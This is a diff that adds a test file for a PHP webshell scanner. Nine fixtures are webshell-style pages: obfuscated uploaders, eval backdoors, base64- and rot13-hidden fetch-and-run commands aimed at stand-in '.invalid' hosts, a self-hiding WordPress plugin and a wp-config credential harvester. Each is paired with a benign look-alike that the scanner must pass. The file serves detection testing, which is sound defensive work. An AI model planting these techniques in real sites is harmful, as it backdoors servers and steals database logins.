@@ -1,0 +1,124 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { createScanner } from './scanner.js';
+
+// Session 37: the techniques of the real webshells held-out set H18 missed at its first scan
+// (bench/redteam/README-corpus-s37.md), written again by us as harmless pages, each with look-alikes an
+// application may hold. Nothing here is copied from a sample.
+const scanner = createScanner({});
+const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
+
+/** A literal written as PHP pieces of two characters joined by dots: 'ab'.'cd'.'e'. */
+const pieces = (s: string) => (s.match(/.{1,2}/g) ?? []).map((p) => `'${p}'`).join('.');
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+/** A deterministic blob: base64 of bytes that do not compress. */
+const blob = (n: number, seed: number) => Buffer.from(Array.from({ length: n }, (_, i) => (i * 131 + seed * 7 + ((i * i) >> 3)) % 256)).toString('base64');
+
+const TABLE = ['dirname', 'move_uploaded_file', 'file_get_contents', 'unlink', 'count', 'chmod', 'is_file'].join('~');
+const FETCH = ['curl_init', 'curl_setopt', 'curl_exec', 'curl_close', 'json_encode', 'urlencode'].join('|');
+
+const MALICIOUS: [string, string, string][] = [
+  [
+    'an uploader calling move_uploaded_file, unlink and chmod through a table of names decoded from pieces of base64',
+    '/var/www/html/a.php',
+    `<?php\nfunction go() {\n  $d = ${pieces('bAsE64_dEcOdE')}; $x = ${pieces('ExPlOdE')};\n  $t = $x('~', $d(${pieces(b64(TABLE))}));\n  $here = $t[0](__FILE__);\n  if (!empty($_FILES['f'])) { $u = $_FILES['f']; for ($i = 0; $i < $t[4]($u['name']); $i++) { $t[1]($u['tmp_name'][$i], $here . '/' . $u['name'][$i]); $t[5]($here . '/' . $u['name'][$i], 0755); } }\n  if (!empty($_GET['rm'])) $t[3]($_GET['rm']);\n  if (!empty($_GET['v']) && $t[6]($_GET['v'])) echo $t[2]($_GET['v']);\n}\ngo();\n`,
+  ],
+  [
+    'a loader fetching a page with curl through names a function of one local picks from its own decoded list',
+    '/var/www/html/b.php',
+    `<?php\nfunction n($i) { $a = array(${pieces('eXpLoDe')}, ${pieces('BaSe64_DeCoDe')}); return $a[$i]; }\nfunction f($u) { $e = n(0); $d = n(1); $t = $e('|', $d(${pieces(b64(FETCH))}));\n  $c = $t[0](); $t[1]($c, 10002, $u . '?h=' . $t[5]($_SERVER['HTTP_HOST'])); $t[1]($c, 19913, 1); $r = $t[2]($c); $t[3]($c); return $r; }\necho f('http://cloak.example.invalid/x');\n`,
+  ],
+  [
+    'a closure running eval on what two closures decode from a blob, their decoders picked from a string by worked-out indices',
+    '/var/www/html/c.php',
+    `<?php\n$run = function ($c) {\n    EVAL($c);\n};\n$one = function ($x) {\n    $s = "_AeBDsCdE";\n    $n = $s[(0 * 6) + 3] . $s[(73 - 69) / 4];\n    $n .= $s[(0 * 14) + 5] . "e" . ((1 * 4) + 2) . (13 - 9) . $s[19 - 19] . $s[(1 * 4) + 3];\n    $n .= $s[6 + -4] . $s[26 - 20] . "O" . $s[20 + -16] . $s[19 + -11] . "";\n    return $n($x);\n};\nfunction two($x) {\n    $w = "nzftA";\n    $g = "G";\n    $g .= $w[(91 - 85) / 6];\n    $g .= "I" . $w[0] . $w[10 - 8];\n    $g .= "l" . $w[18 - 14] . $w[22 - 19];\n    $g .= "e";\n    return $g($x);\n}\n$p = '${blob(24000, 1)}';\n$p = $one($p);\n$p = two($p);\n$run($p);\n`,
+  ],
+  ['a command given a base64-decoded literal', '/var/www/html/d.php', `<?php shell_exec(base64_decode("${b64('(wget -qO- http://dl.example.invalid/sh || curl -s http://dl.example.invalid/sh) | sh -s x')}")); echo 'ok'; ?>\n`],
+  ['a command given a rot13-decoded literal', '/var/www/html/e.php', `<?php system(str_rot13('jtrg -d uggc://qy.rknzcyr.vainyvq/o -B /gzc/o'));\n`],
+  [
+    'a page downloading a program, making it executable and running it from its folder',
+    '/var/www/html/f.php',
+    `<?php\nfunction get($u, $to) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($ch); if (!$d) $d = @file_get_contents($u); file_put_contents('./' . $to, $d); }\nfunction run($c) { ob_start(); @system($c); return ob_get_clean(); }\nget("http://dl.example.invalid/worker", "worker");\necho run("chmod +x worker && ./worker");\n`,
+  ],
+  [
+    'a class decrypting the pieces of a posted command with a public key and running the text with eval',
+    '/var/www/html/g.php',
+    `<?php\nclass K {\n  public function key() { return "-----BEGIN PUBLIC KEY-----\\nMIGf...\\n-----END PUBLIC KEY-----"; }\n  public function run($a) { return @eval($a); }\n  public function get() { $out = ''; foreach (explode('|', $_POST['p']) as $v) { if (openssl_public_decrypt(base64_decode($v), $d, $this->key())) $out .= $d; } return $out; }\n}\n$k = new K();\n$k->run($k->get());\n`,
+  ],
+  [
+    'a WordPress plugin taking itself out of the plugins list and removing its own Deactivate link',
+    '/var/www/html/wp-content/plugins/x/x.php',
+    `<?php\n/*\nPlugin Name: Speed Helper\n*/\nadd_filter('all_plugins', function ($plugins) { $me = plugin_basename(__FILE__); if (isset($plugins[$me])) unset($plugins[$me]); return $plugins; });\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($actions) { unset($actions['deactivate']); return $actions; });\nadd_action('wp_head', function () { echo wp_remote_retrieve_body(wp_remote_get('https://ads.example.invalid/x?h=' . home_url())); });\n`,
+  ],
+  [
+    'a script cutting the database logins out of the copies of wp-config it lists and logging in to each',
+    '/var/www/html/h.php',
+    `<?php\n$out = fopen('found.txt', 'a');\nforeach (glob('*.txt') as $file) {\n  $c = str_replace(' ', '', file_get_contents($file));\n  if (!preg_match("/DB_USER','(.+?)'/", $c, $u) || !preg_match("/DB_PASSWORD','(.+?)'/", $c, $p) || !preg_match("/DB_HOST','(.+?)'/", $c, $h)) continue;\n  $db = @mysqli_connect($h[1], $u[1], $p[1]);\n  if ($db) { fwrite($out, "$h[1];$u[1];$p[1]\\n"); mysqli_close($db); }\n}\n`,
+  ],
+];
+
+const LOOKALIKES: [string, string, string][] = [
+  [
+    'a dispatch table of callbacks written plainly and called by element',
+    '/var/www/html/dispatch.php',
+    `<?php\n$ops = array('trim', 'strtolower', 'file_get_contents', 'unlink', 'basename');\n$path = __DIR__ . '/cache/' . $ops[4]($_GET['f'] ?? 'x');\nif (is_file($path)) { echo $ops[2]($path); $ops[3]($path); }\n`,
+  ],
+  [
+    'a config loader reading a list of column names from a base64 setting',
+    '/var/www/html/columns.php',
+    `<?php\n$cols = explode(',', base64_decode('${b64('id,name,email,created')}'));\nforeach ($cols as $c) echo htmlspecialchars($c), "\\n";\n`,
+  ],
+  [
+    'a template engine whose render function runs the compiled template with eval, and a base64 logo',
+    '/var/www/html/tpl.php',
+    `<?php\n$logo = '${blob(3000, 2)}';\nfunction render_compiled($code) { eval($code); }\n$compiled = '?>' . file_get_contents(__DIR__ . '/cache/page.php');\nrender_compiled($compiled);\necho '<img src="data:image/png;base64,' . $logo . '">';\n`,
+  ],
+  [
+    'a maintenance page running a fixed command with a literal base64 label printed apart',
+    '/var/www/html/maint.php',
+    `<?php\necho base64_decode('${b64('Disk usage')}');\necho shell_exec('df -h');\n`,
+  ],
+  [
+    'an installer downloading an archive over https and unpacking it, without making anything executable',
+    '/var/www/html/install.php',
+    `<?php\nfile_put_contents('/tmp/app.tgz', file_get_contents('https://releases.example.com/app.tgz'));\nexec('tar xzf /tmp/app.tgz -C ' . escapeshellarg(__DIR__));\n`,
+  ],
+  [
+    'a licence check verifying a signed licence file with openssl_public_decrypt',
+    '/var/www/html/licence.php',
+    `<?php\n$pub = file_get_contents(__DIR__ . '/key.pem');\n$ok = openssl_public_decrypt(base64_decode(file_get_contents(__DIR__ . '/licence.sig')), $plain, $pub);\nif (!$ok || $plain !== hash('sha256', $_SERVER['HTTP_HOST'])) die('unlicensed');\n`,
+  ],
+  [
+    'a white-label plugin hiding the plugins its settings list, not itself',
+    '/var/www/html/wp-content/plugins/wl/wl.php',
+    `<?php\n/*\nPlugin Name: White Label\n*/\nadd_filter('all_plugins', function ($plugins) { foreach ((array) get_option('wl_hidden', array()) as $p) unset($plugins[$p]); return $plugins; });\n`,
+  ],
+  [
+    'a backup tool reading its own site\'s wp-config for the database login',
+    '/var/www/html/wp-backup.php',
+    `<?php\n$c = file_get_contents(__DIR__ . '/wp-config.php');\npreg_match("/define\\\\(\\\\s*'DB_USER',\\\\s*'([^']*)'/", $c, $u);\npreg_match("/define\\\\(\\\\s*'DB_PASSWORD',\\\\s*'([^']*)'/", $c, $p);\n$db = new mysqli('localhost', $u[1], $p[1]);\nforeach ($db->query('SHOW TABLES') as $row) echo $row[0], "\\n";\n`,
+  ],
+  [
+    'a pager working out an offset with arithmetic in an index',
+    '/var/www/html/pager.php',
+    `<?php\n$rows = range(1, 100);\n$page = max(1, (int) ($_GET['p'] ?? 1));\necho $rows[($page - 1) * 10] . ' to ' . $rows[(($page - 1) * 10) + 9];\n`,
+  ],
+];
+
+describe('scan: the techniques of held-out set H18 (session 37)', () => {
+  for (const [name, path, src] of MALICIOUS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
+    });
+  }
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 9));
+
+  for (const [name, path, src] of LOOKALIKES) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
+    });
+  }
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 9));
+});
